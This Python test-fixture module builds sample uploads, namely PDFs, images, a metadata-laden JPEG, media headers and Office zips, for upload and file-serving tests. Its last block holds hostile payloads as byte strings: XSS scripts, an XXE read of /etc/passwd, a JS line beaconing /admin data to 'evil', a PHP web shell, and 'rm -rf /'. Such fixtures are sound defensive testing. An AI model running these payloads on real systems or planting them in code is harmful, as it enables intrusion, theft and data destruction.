"""Small real files of each format (and hostile ones) for the upload and file-serving tests."""
from __future__ import annotations

import io
import zipfile

from fpdf import FPDF
from PIL import Image


def pdf(text: str = "Nghi quyet 57-NQ/TW", pad: int = 0) -> bytes:
    doc = FPDF()
    doc.add_page()
    doc.set_font("helvetica", size=14)
    doc.cell(text=text)
    data = bytes(doc.output())
    return data + b"\n%" + b"x" * pad + b"\n" if pad else data


def image(fmt: str = "PNG", size=(64, 48), color=(200, 30, 30), **save) -> bytes:
    mode = "RGBA" if fmt in ("PNG", "WEBP") and save.pop("alpha", False) else "RGB"
    img = Image.new(mode, size, color + ((128,) if mode == "RGBA" else ()))
    buffer = io.BytesIO()
    img.save(buffer, fmt, **save)
    return buffer.getvalue()


def png(size=(64, 48)) -> bytes:
    return image("PNG", size)


def jpeg_with_metadata(size=(3000, 2000), orientation: int | None = None) -> bytes:
    """A JPEG carrying EXIF (description, camera, GPS) and a comment, all containing b"secret"."""
    img = Image.new("RGB", size, (20, 120, 200))
    exif = Image.Exif()
    exif[0x010E] = "secret description"  # ImageDescription
    exif[0x010F] = "secret camera"  # Make
    if orientation:
        exif[0x0112] = orientation
    exif.get_ifd(0x8825)[2] = (21.0, 1.0, 30.0)  # GPSLatitude
    buffer = io.BytesIO()
    img.save(buffer, "JPEG", exif=exif, comment=b"secret comment", quality=80)
    return buffer.getvalue()


def mp4_header(brand: bytes = b"isom") -> bytes:
    """An ftyp box followed by the start of an mdat box."""
    ftyp = b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x02\x00" + b"isommp41"
    return ftyp + b"\x00\x00\x00\x08mdat"


def webm_header(doctype: bytes = b"webm") -> bytes:
    body = (b"\x42\x86\x81\x01" b"\x42\xf7\x81\x01" b"\x42\xf2\x81\x04" b"\x42\xf3\x81\x08"
            + b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
            + b"\x42\x87\x81\x04" b"\x42\x85\x81\x02")
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body + b"\x18\x53\x80\x67" + b"\x00" * 32


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx() -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                   "word/document.xml": b"<w:document/>"})


def xlsx() -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>",
                   "xl/worksheets/sheet1.xml": b"<worksheet/>"})


def pptx() -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p:presentation/>"})


def plain_zip() -> bytes:
    return zip_of({"readme.txt": b"hello", "data/list.csv": b"a,b\n1,2\n"})


HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(1)</script><rect width='10' height='10'/></svg>")
SVG_BARE = b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'></svg>"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
JS = b"fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));\n"
PHP = b"<?php system($_GET['c']); ?>\n"
SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 2000
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 2000
TEXT = "Nội dung bài giảng\n".encode() * 10
